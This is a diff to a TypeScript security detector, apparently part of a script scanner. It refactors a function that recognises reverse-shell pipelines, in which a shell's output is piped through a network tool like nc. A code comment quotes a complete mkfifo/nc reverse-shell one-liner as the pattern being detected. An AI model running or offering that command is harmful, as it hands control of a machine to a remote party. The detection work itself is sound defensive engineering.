@@ -16,14 +16,13 @@ function throughNetworkFile({ opens, commands, script }: RunningScript): readonl
 
 /** `mkfifo p; cat p | sh -i | nc host 1234 > p`: what a shell prints goes to a connection, whose answers it runs. */
 function throughPipe({ commands }: RunningScript): readonly Seen[] {
-  const connector = commands.find(({ name, within }) => connectors.has(name) && within.pipedFrom !== null);
-  const { pipedFrom } = connector?.within ?? { pipedFrom: null };
-  if (!connector || !pipedFrom) return nothing;
-  const shell = commands.some(
-    ({ name, within }) =>
-      /^((ba|da|z|k|a)?sh|cmd\.exe|powershell|pwsh)$/.test(name) && within.index >= pipedFrom.start && within.index < pipedFrom.end,
-  );
-  return shell ? seen("shell.reverse_shell", "hands a shell to another machine", connector) : nothing;
+  const shells = commands
+    .filter(({ name }) => /^((ba|da|z|k|a)?sh|cmd\.exe|powershell|pwsh)$/.test(name))
+    .map(({ within }) => within.index);
+  const connector = commands.find(({ name, within: { pipedFrom } }) => {
+    return connectors.has(name) && pipedFrom !== null && shells.some((at) => at >= pipedFrom.start && at < pipedFrom.end);
+  });
+  return connector ? seen("shell.reverse_shell", "hands a shell to another machine", connector) : nothing;
 }
 
 /** A shell for somebody on another machine. */
